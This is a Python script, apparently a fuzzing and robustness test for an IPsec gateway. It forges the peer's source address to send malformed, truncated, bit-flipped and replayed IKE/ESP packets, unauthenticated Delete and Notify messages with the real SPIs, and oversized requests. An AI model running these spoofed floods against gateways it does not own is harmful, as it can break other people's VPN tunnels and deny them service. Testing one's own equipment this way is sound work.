"""Sends a gateway what a hostile network could: garbage, broken and replayed messages.

  garbage.py GATEWAY PEER CAPTURE KIND     (as root, where packets of any source can be sent)

CAPTURE holds real IKE and ESP packets between PEER and GATEWAY; KIND is a function of this file.
Prints how many datagrams were sent.  Everything is the same in each run but for random octets.
"""
import os
import random
import socket
import struct
import sys

INIT, AUTH, CHILD, INFORMATIONAL = 34, 35, 36, 37
NOTIFY, DELETE, SA, KE, NONCE = 41, 42, 33, 34, 40


def packets(path):
    """The IPv4 packets of a capture of Ethernet frames."""
    with open(path, "rb") as file:
        data = file.read()
    at = 24
    while at + 16 <= len(data):
        size = struct.unpack_from("<I", data, at + 8)[0]
        frame = data[at + 16 : at + 16 + size]
        at += 16 + size
        if frame[12:14] == b"\x08\x00":
            yield frame[14:]


class Attack:
    def __init__(self, gateway, peer, capture):
        self.gateway, self.peer = gateway, peer
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.random = random.Random(7)
        self.sent = 0
        self.ike, self.esp = [], []
        for packet in packets(capture):
            length = (packet[0] & 15) * 4
            to_gateway = socket.inet_ntoa(packet[16:20]) == gateway
            if packet[9] == 17 and 500 in struct.unpack_from("!HH", packet, length):
                self.ike.append((to_gateway, packet[length + 8 :]))
            elif packet[9] == 50 and to_gateway:
                self.esp.append(packet)

    def spoof(self, payload, protocol=17, port=500):
        """As if the peer had sent it."""
        if protocol == 17:
            payload = struct.pack("!HHHH", port, port, 8 + len(payload), 0) + payload
        header = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0,
            socket.inet_aton(self.peer), socket.inet_aton(self.gateway))
        self.emit(header + payload)

    def emit(self, packet):
        self.sent += 1
        try:
            self.raw.sendto(packet, (self.gateway, 0))
        except OSError:
            pass  # a full queue

    def send(self, payload, port=500):
        self.sent += 1
        try:
            self.own.sendto(payload, (self.gateway, port))
        except OSError:
            pass

    def spis(self):
        return self.ike[-1][1][:16]


def message(spis, first, exchange, flags, number, body, length=None, version=0x20):
    size = 28 + len(body) if length is None else length
    return spis + struct.pack("!BBBBII", first, version, exchange, flags, number, size) + body


def payload(following, body, critical=False, length=None):
    size = 4 + len(body) if length is None else length
    return struct.pack("!BBH", following, 0x80 if critical else 0, size & 0xFFFF) + body


def random_octets(a):
    for _ in range(8000):
        a.send(os.urandom(a.random.choice((0, 1, 3, 4, 27, 28, 29, 60, 300, 1400))),
               a.random.choice((500, 4500)))
    for size in (8000, 30000, 65507):
        for port in (500, 4500):
            a.send(os.urandom(size), port)


def headers_only(a):
    """A true header with a wrong length, an odd version, exchange or flags, and SPIs of nobody."""
    for _ in range(6000):
        body = os.urandom(a.random.choice((0, 4, 40, 300)))
        spis = a.random.choice((a.spis(), os.urandom(8) + bytes(8), os.urandom(16), bytes(16)))
        length = a.random.choice((None, None, 0, 27, 28, 29, 28 + len(body) - 1, 0xFFFFFFFF))
        data = message(spis, a.random.randrange(256), a.random.choice((INIT, AUTH, CHILD, INFORMATIONAL,
                       2, 5, 0, 255)), a.random.randrange(256), a.random.choice((0, 1, 2, 0xFFFFFFFF)),
                       body, length, a.random.choice((0x20, 0x20, 0x10, 0x2F, 0x30, 0)))
        a.random.choice((a.spoof, a.send))(data)


def truncated(a):
    for _, data in a.ike:
        for size in range(0, len(data), max(1, len(data) // 60)):
            a.spoof(data[:size])
            a.spoof(data + bytes(size))


def bits_flipped(a):
    for _, data in a.ike:
        for _ in range(120):
            broken = bytearray(data)
            broken[a.random.randrange(len(broken))] ^= 1 << a.random.randrange(8)
            a.spoof(bytes(broken))


def replayed(a):
    """All messages again, of both directions, in all kinds of order, and the ESP packets."""
    for _ in range(40):
        messages = list(a.ike)
        a.random.shuffle(messages)
        for _, data in messages:
            a.spoof(data)
    for _ in range(10):
        for packet in a.esp[:200]:
            a.emit(packet)


def wrong_spis(a):
    for _ in range(3000):
        data = bytearray(a.random.choice(a.ike)[1])
        at = a.random.choice((0, 8))
        data[at : at + 8] = os.urandom(8)
        a.spoof(bytes(data))
        a.spoof(os.urandom(8) + os.urandom(100), protocol=50)
        a.spoof(os.urandom(120), port=4500)


def critical_payloads(a):
    for kind in range(256):
        body = payload(0, os.urandom(20), critical=True)
        a.send(message(os.urandom(8) + bytes(8), kind, INIT, 8, 0, body))
        a.spoof(message(a.spis(), kind, INFORMATIONAL, 8, 7, body))
        a.spoof(message(a.spis(), kind, CHILD, 0x20, 3, body))


def in_the_clear(a):
    """Deletes and error notifies with the true SPIs and nobody's proof."""
    delete_ike = payload(0, struct.pack("!BBH", 1, 0, 0))
    for number in range(200):
        for flags in (0, 8, 0x20, 0x28):
            a.spoof(message(a.spis(), DELETE, INFORMATIONAL, flags, number, delete_ike))
            for notify in (4, 5, 7, 9, 11, 14, 24, 45, 16390, 16384):
                if number % 10 == 0:
                    body = payload(0, struct.pack("!BBH", 0, 0, notify))
                    a.spoof(message(a.spis(), NOTIFY, INFORMATIONAL, flags, number, body))
                    a.spoof(message(a.spis(), NOTIFY, AUTH, flags, 1, body))


def crooked_requests(a):
    """IKE_SA_INIT requests that are almost right."""
    true = next(data for _, data in a.ike if data[18] == INIT)
    for _ in range(2000):
        body = bytearray(true[28:])
        for _ in range(a.random.randrange(1, 6)):
            body[a.random.randrange(len(body))] = a.random.choice((0, 1, 4, 5, 127, 128, 255))
        a.send(message(os.urandom(8) + bytes(8), true[16], INIT, 8, 0, bytes(body)))
    deep = b"".join(payload(NOTIFY, struct.pack("!BBH", 0, 0, 16404)) for _ in range(2000))
    a.send(message(os.urandom(8) + bytes(8), NOTIFY, INIT, 8, 0, deep))
    transforms = b"".join(struct.pack("!BBHBBH", 3, 0, 8, 1, 0, n % 40) for n in range(4000))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 255) + transforms
    a.send(message(os.urandom(8) + bytes(8), SA, INIT, 8, 0, payload(0, proposal)))
    for size in (0, 1, 31, 33, 256, 1400):
        chain = payload(KE, true[32:76]) + payload(NONCE, struct.pack("!HH", 31, 0) + os.urandom(size))
        a.send(message(os.urandom(8) + bytes(8), SA, INIT, 8, 0, chain + payload(0, os.urandom(size))))


def main():
    gateway, peer, capture, kind = sys.argv[1:]
    attack = Attack(gateway, peer, capture)
    globals()[kind](attack)
    print(attack.sent)


main()
